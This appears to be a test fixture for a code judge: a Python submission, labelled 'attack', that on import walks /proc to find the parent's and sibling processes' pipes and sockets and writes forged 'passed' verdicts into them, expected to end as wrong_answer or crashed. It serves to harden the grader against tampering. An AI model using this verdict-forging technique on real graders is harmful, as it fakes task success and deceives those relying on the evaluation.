# attack: Opens the report and verdict pipes of parent and judge through /proc/PID/fd and writes verdicts into them
# expect: wrong_answer, crashed
import glob
import os

WORD = b'{"id": 1, "verdict": "passed"}'
PARENT = os.getppid()
try:
    CHILDREN = open(f'/proc/{PARENT}/task/{PARENT}/children').read().split()
except OSError:
    CHILDREN = []
for link in [link for pid in [PARENT, *CHILDREN] if str(pid) != str(os.getpid()) for link in glob.glob(f'/proc/{pid}/fd/*')]:
    try:
        if os.readlink(link).startswith(('pipe:', 'socket:')):
            descriptor = os.open(link, os.O_WRONLY | os.O_NONBLOCK)
            os.write(descriptor, len(WORD).to_bytes(4, 'big') + WORD)
    except OSError:
        pass


def f(x):
    return None
